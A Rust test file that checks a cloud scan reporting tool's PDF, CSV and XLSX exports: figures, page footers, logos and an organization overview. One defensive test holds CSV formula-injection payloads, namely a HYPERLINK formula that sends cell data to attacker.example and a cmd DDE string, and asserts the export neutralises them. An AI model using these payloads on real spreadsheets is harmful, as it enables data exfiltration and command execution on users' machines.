//! The report from stored scans (real SQLite store, real rules, no AWS):
//! the PDF's text is checked with pdftotext against the model's own numbers
//! and every page is rendered with pdftoppm; the exports are read back. The
//! model's sections are snapshot-tested over a small fixture in `model.rs`.

mod common;

use std::io::Cursor;
use std::path::Path;

use atoll_core::score::{Finding, RuleInfo};
use atoll_report::export::{FINDING_COLUMNS, csv_bytes, json_bytes, xlsx_bytes};
use atoll_report::model::fmt_num;
use atoll_report::pdf::{SECTION_TITLES, render};
use atoll_report::{ReportModel, ScanReport, build_model};
use calamine::{Data, Reader, Xlsx};
use common::*;

/// The line of the layout text holding `label`, trimmed.
fn line_with<'t>(text: &'t str, label: &str) -> &'t str {
    text.lines()
        .find(|l| l.contains(label))
        .unwrap_or_else(|| panic!("no line with `{label}` in the PDF text"))
        .trim()
}

fn check_pdf(model: &ReportModel, pdf: &Path) -> String {
    let text = pdf_text(pdf);
    assert!(text.contains(CUSTOMER), "customer name missing or garbled");
    assert!(text.contains("Recife Cloud Partners Ltda."));
    assert!(text.contains("Ana Gonçalves"));
    assert!(text.contains("SOW-2026-042"));
    assert!(text.contains("Contents"));
    for title in SECTION_TITLES {
        assert!(text.contains(title), "section `{title}` missing");
    }
    // The contents page lists every section.
    let pages: Vec<&str> = text.split('\u{c}').collect();
    for title in SECTION_TITLES {
        assert!(pages[1].contains(title), "contents lacks `{title}`");
    }
    // Non-ASCII resource id, as stored.
    assert!(text.contains(NON_ASCII_ID), "non-ASCII resource id missing");
    // Headers and footers on every page; page numbers.
    let total = page_count(pdf);
    assert_eq!(pages.len() - 1, total, "one form feed per page");
    for (i, page) in pages.iter().take(total).enumerate() {
        assert!(
            page.contains(&format!("Page {} of {total}", i + 1)),
            "page {} has no page number",
            i + 1
        );
        assert!(
            page.contains("SOW ref. SOW-2026-042"),
            "page {} has no footer",
            i + 1
        );
    }
    // The HRI numbers are the model's.
    let h = &model.hri;
    assert!(
        line_with(&text, "Baseline HRIs (").ends_with(&h.baseline_count.to_string()),
        "baseline HRIs"
    );
    assert!(line_with(&text, "HRIs resolved  ").ends_with(&h.resolved_count.to_string()));
    assert!(line_with(&text, "HRIs remaining").ends_with(&h.remaining_count.to_string()));
    let pct = h
        .pct_resolved
        .map_or("n/a".to_string(), |p| format!("{p:.1} %"));
    assert!(line_with(&text, "HRIs resolved (%)").ends_with(&pct));
    assert!(text.contains(&format!(
        "Eligible for the programme credit: {}",
        if h.eligible { "yes" } else { "no" }
    )));
    // The score and the SOW total.
    assert!(text.contains(&format!("Health score {} / 100", model.executive.score)));
    assert!(text.contains(&format!(
        "{} h",
        atoll_report::model::fmt_num(model.sow.total_hours)
    )));
    text
}

fn check_renders(pdf: &Path) {
    let dir = tempfile::tempdir().unwrap();
    let pngs = render_pages(pdf, dir.path());
    assert_eq!(pngs.len(), page_count(pdf), "pdftoppm renders every page");
    for png in pngs {
        assert!(
            std::fs::metadata(&png).unwrap().len() > 1000,
            "{} is empty",
            png.display()
        );
    }
}

#[tokio::test]
async fn report_with_baseline() {
    let fx = fixture().await;
    let input = input(&fx, true).await;
    let model = build_model(&input);

    // The fixture's story holds: HRIs were resolved, one finding is new.
    let h = &model.hri;
    assert!(h.has_baseline);
    assert!(h.baseline_count >= 2, "baseline has HRIs: {h:?}");
    assert_eq!(h.resolved_count, 2, "two HRI questions were fixed");
    assert_eq!(h.remaining_count, h.baseline_count - 2);
    let changes = model.executive.changes.as_ref().unwrap();
    assert!(changes.new >= 1 && changes.resolved >= 2);
    assert_eq!(model.well_architected.questions.len(), 57);
    assert!(
        model
            .cover
            .coverage_gaps
            .iter()
            .any(|g| g.service == "lambda")
    );
    assert_eq!(model.executive.suppressed, 1);
    assert_eq!(model.charts.before_after.as_ref().unwrap().len(), 6);

    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("report.pdf");
    std::fs::write(&pdf, render(&model, &input.settings).unwrap()).unwrap();
    let text = check_pdf(&model, &pdf);
    assert!(text.contains("What changed since the baseline"));
    assert!(text.contains("Before / after by pillar"));
    check_renders(&pdf);
    if let Ok(keep) = std::env::var("ATOLL_KEEP_PDF") {
        std::fs::copy(&pdf, keep).unwrap();
    }
}

/// The partner's logo: on the cover and in every page's header; a file
/// that is not a PNG is refused with a reason, not drawn as garbage.
#[tokio::test]
async fn a_partner_logo_is_on_the_cover_and_every_page_header() {
    let fx = fixture().await;
    let mut input = input(&fx, false).await;
    let logo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../icons/128x128.png");
    input.settings.logo_png = Some(std::fs::read(&logo).unwrap());
    let model = build_model(&input);
    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("report.pdf");
    std::fs::write(&pdf, render(&model, &input.settings).unwrap()).unwrap();
    check_pdf(&model, &pdf);
    // `pdfimages -list`: two header lines, then one line per image drawn,
    // with its page number first.
    let list = poppler("pdfimages", &["-list", pdf.to_str().unwrap()]);
    let pages_with_logo: std::collections::BTreeSet<usize> = list
        .lines()
        .skip(2)
        .filter_map(|l| l.split_whitespace().next()?.parse().ok())
        .collect();
    let expected: std::collections::BTreeSet<usize> = (1..=page_count(&pdf)).collect();
    assert_eq!(pages_with_logo, expected, "{list}");
    check_renders(&pdf);

    input.settings.logo_png = Some(b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec());
    let err = render(&model, &input.settings).unwrap_err().to_string();
    assert!(err.starts_with("cannot read the logo"), "{err}");
}

#[tokio::test]
async fn report_without_baseline() {
    let fx = fixture().await;
    let input = input(&fx, false).await;
    let model = build_model(&input);
    assert!(!model.hri.has_baseline);
    assert_eq!(model.hri.pct_resolved, None);
    assert!(!model.hri.eligible);
    assert_eq!(
        model.hri.baseline_hris,
        input.current.summary.high_risk_questions
    );

    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("report.pdf");
    std::fs::write(&pdf, render(&model, &input.settings).unwrap()).unwrap();
    let text = check_pdf(&model, &pdf);
    assert!(text.contains("No baseline scan was given"));
    check_renders(&pdf);
}

/// The rows of one sheet as a spreadsheet reads them.
fn sheet(book: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> Vec<Vec<Data>> {
    let range = book.worksheet_range(name).unwrap();
    assert_eq!(range.start(), Some((0, 0)), "{name} starts at A1");
    range.rows().map(<[Data]>::to_vec).collect()
}

fn text(value: &str) -> Data {
    Data::String(value.to_string())
}

/// The XLSX read back with calamine: its sheets, the Findings sheet cell by
/// cell against the CSV (the same rows), the Summary's and the SOW's figures
/// against the model.
fn check_xlsx(
    xlsx: &[u8],
    model: &ReportModel,
    findings: &[Finding],
    rules: &[RuleInfo],
    csv_rows: &[csv::StringRecord],
) {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx.to_vec())).unwrap();
    assert_eq!(
        book.sheet_names(),
        ["Summary", "Findings", "SOW line items"]
    );

    let rows = sheet(&mut book, "Findings");
    let header: Vec<Data> = FINDING_COLUMNS.iter().map(|c| text(c)).collect();
    assert_eq!(rows[0], header);
    assert_eq!(
        rows.len(),
        findings.len() + 1,
        "a header, then one row per finding"
    );
    for ((row, f), csv_row) in rows[1..].iter().zip(findings).zip(csv_rows) {
        assert_eq!(row[3], text(&f.rule_id));
        assert_eq!(row[9], text(&f.resource_id));
        assert_eq!(row[7], text(&f.region));
        assert_eq!(row[14], text(&f.suppressed.to_string()));
        let rule = rules.iter().find(|r| r.id == f.rule_id).unwrap();
        assert_eq!(
            row[13],
            Data::Float(rule.effort_hours),
            "effort is a number"
        );
        for (c, cell) in row.iter().enumerate().filter(|(c, _)| *c != 13) {
            assert_eq!(
                cell.to_string(),
                csv_row[c],
                "{} of {}",
                FINDING_COLUMNS[c],
                f.rule_id
            );
        }
    }

    let summary: std::collections::BTreeMap<String, String> = sheet(&mut book, "Summary")
        .iter()
        .map(|r| (r[0].to_string(), r[1].to_string()))
        .collect();
    let (e, h) = (&model.executive, &model.hri);
    for (label, value) in [
        ("Customer", model.cover.customer.clone()),
        ("Health score", e.score.to_string()),
        ("Findings (unsuppressed)", e.findings.to_string()),
        ("Suppressed (accepted risks)", e.suppressed.to_string()),
        (
            "High-risk questions (HRIs)",
            e.high_risk_questions.to_string(),
        ),
        ("Baseline HRIs", h.baseline_count.to_string()),
        ("HRIs resolved", h.resolved_count.to_string()),
        ("HRIs resolved %", format!("{:.1}", h.pct_resolved.unwrap())),
        (
            "Eligible for programme credit",
            if h.eligible { "yes" } else { "no" }.into(),
        ),
        ("SOW total effort hours", fmt_num(model.sow.total_hours)),
    ] {
        assert_eq!(summary.get(label), Some(&value), "Summary: {label}");
    }

    let rows = sheet(&mut book, "SOW line items");
    assert_eq!(
        rows[0][..5],
        [
            text("line"),
            text("priority"),
            text("pillar"),
            text("question"),
            text("rule_id")
        ]
    );
    for (row, item) in rows[1..].iter().zip(&model.sow.items) {
        assert_eq!(row[0], Data::Float(item.line as f64));
        assert_eq!(row[4], text(&item.rule_id));
        assert_eq!(row[7], Data::Float(item.resources as f64));
        assert_eq!(row[9], Data::Float(item.effort_hours));
    }
    let total = rows
        .iter()
        .find(|r| r[2] == text("Total"))
        .expect("a Total row");
    assert_eq!(total[9], Data::Float(model.sow.total_hours));
}

#[tokio::test]
async fn exports() {
    let fx = fixture().await;
    let input = input(&fx, true).await;
    let model = build_model(&input);
    let findings = &input.current.findings;

    let csv = csv_bytes(findings, &input.rules).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, FINDING_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), findings.len(), "one row per finding");
    assert!(rows.iter().any(|r| &r[9] == NON_ASCII_ID));
    assert!(
        rows.iter().any(|r| &r[14] == "true"),
        "suppressed finding flagged"
    );
    assert!(
        rows.iter()
            .all(|r| ["High", "Medium", "Low"].contains(&&r[2]))
    );
    assert!(rows.iter().all(|r| !r[12].is_empty()), "remediation steps");

    let xlsx = xlsx_bytes(&model, findings, &input.rules).unwrap();
    assert_eq!(&xlsx[..2], b"PK", "an XLSX is a zip");
    let listing = String::from_utf8_lossy(&xlsx);
    for sheet in ["sheet1.xml", "sheet2.xml", "sheet3.xml"] {
        assert!(listing.contains(sheet), "{sheet} missing");
    }
    check_xlsx(&xlsx, &model, findings, &input.rules, &rows);

    let json = json_bytes(&input.current).unwrap();
    let back: ScanReport = serde_json::from_slice(&json).unwrap();
    assert_eq!(back, input.current);
    let value: serde_json::Value = serde_json::from_slice(&json).unwrap();
    for key in atoll_core::scan::SCAN_CONTRACT_FIELDS {
        assert!(value["scan"].get(key).is_some(), "scan.{key}");
    }
    for key in atoll_core::scan::FINDING_CONTRACT_FIELDS {
        assert!(value["findings"][0].get(key).is_some(), "findings[].{key}");
    }
}

#[test]
fn effort_cap() {
    use atoll_report::model::{EFFORT_CAP_HOURS, line_effort};
    assert_eq!(line_effort(2.0, 3), (6.0, false));
    assert_eq!(line_effort(1.0, 14), (11.0, false));
    assert_eq!(line_effort(4.0, 500), (EFFORT_CAP_HOURS, true));
    assert_eq!(atoll_report::model::hris_required(45.0, 20), 9);
    assert_eq!(atoll_report::model::hris_required(25.0, 5), 2);
}

/// Resource names, tags and details come from the customer's account: a
/// CSV cell that starts like a formula must open in a spreadsheet as text,
/// and the same values stay plain strings in the XLSX.
#[tokio::test]
async fn csv_cells_from_the_account_cannot_run_as_formulas() {
    let fx = fixture().await;
    let mut input = input(&fx, false).await;
    let formulas = [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
    ];
    for (finding, formula) in input.current.findings.iter_mut().zip(formulas) {
        finding.resource_id = formula.to_string();
        finding.detail = formula.to_string();
    }
    let findings = &input.current.findings;
    assert!(
        findings.len() >= formulas.len(),
        "the fixture has findings to poison"
    );

    let csv = csv_bytes(findings, &input.rules).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let id = FINDING_COLUMNS
        .iter()
        .position(|c| *c == "resource_id")
        .unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for formula in formulas {
        let row = rows
            .iter()
            .find(|r| r[id].ends_with(formula))
            .unwrap_or_else(|| panic!("a row for {formula}"));
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a CSV cell starts like a formula: {cell}"
            );
        }
        assert_eq!(&row[id], format!("'{formula}"), "the value is kept, quoted");
    }

    let model = build_model(&input);
    let xlsx = xlsx_bytes(&model, findings, &input.rules).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let formulas_in_book: usize = book
        .sheet_names()
        .iter()
        .map(|name| {
            book.worksheet_formula(name)
                .unwrap()
                .used_cells()
                .filter(|(_, _, f)| !f.is_empty())
                .count()
        })
        .sum();
    assert_eq!(formulas_in_book, 0, "no XLSX cell is a formula");
    let findings_sheet = book.worksheet_range("Findings").unwrap();
    assert!(
        findings_sheet
            .used_cells()
            .any(|(_, _, v)| *v == Data::String(formulas[0].to_string())),
        "the XLSX keeps the value as a plain string"
    );
}

/// A review across an organization: the overview page follows the
/// executive summary (in the contents too), with every account, the
/// not-assessed one and its reason, and the organization's total line; the
/// scope section states the workload scope; the appendix names accounts.
/// The pages are kept as PNG in tests/out/report-organization/ to look at.
#[test]
fn an_organization_review_has_its_overview_page() {
    use atoll_report::pdf::ORGANIZATION_TITLE;

    let input = small_review_input();
    let model = build_model(&input);
    let dir = tempfile::tempdir().unwrap();
    let pdf = dir.path().join("review.pdf");
    std::fs::write(&pdf, render(&model, &input.settings).unwrap()).unwrap();
    let out = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/out/report-organization");
    let _ = std::fs::remove_dir_all(&out);
    std::fs::create_dir_all(&out).unwrap();
    std::fs::copy(&pdf, out.join("review.pdf")).unwrap();
    let pngs = render_pages(&pdf, &out);
    assert_eq!(pngs.len(), page_count(&pdf), "pdftoppm renders every page");
    let text = pdf_text(&pdf);
    let pages: Vec<&str> = text.split('\u{c}').collect();
    let overview = pages
        .iter()
        .position(|p| p.contains(ORGANIZATION_TITLE) && p.contains("Accounts not assessed"))
        .expect("an overview page");
    let executive = pages
        .iter()
        .position(|p| p.contains(SECTION_TITLES[0]) && p.contains("health score"))
        .expect("an executive summary page");
    assert!(executive < overview, "the overview follows the summary");
    let contents = pages[1];
    assert!(
        contents.contains(ORGANIZATION_TITLE),
        "listed in the contents"
    );

    let page = pages[overview];
    for account in [
        "payments-prod (111111111111)",
        "data-lake (222222222222)",
        "sandbox (333333333333)",
    ] {
        assert!(page.contains(account), "{account} on the overview");
    }
    assert!(page.contains("All 3 accounts"));
    assert!(page.contains("n/a"), "no score for the sandbox");
    let sandbox = page.find("sandbox (333333333333)").unwrap();
    let payments = page.find("payments-prod (111111111111)").unwrap();
    assert!(sandbox < payments, "the not-assessed account leads");
    assert!(page.contains("AccessDenied"), "the reason is given");
    let o = model.organization.as_ref().unwrap();
    let total_line = line_with(page, "All 3 accounts");
    assert!(
        total_line.contains(&o.findings.to_string()),
        "the total line holds the organization's findings: {total_line}"
    );

    assert!(text.contains("Workload scope"));
    assert!(text.contains("Application=payments"));
    let appendix = pages
        .iter()
        .rposition(|p| p.contains("Account") && p.contains("(111111111111)"))
        .expect("the appendix names the accounts");
    assert!(appendix > overview);
}
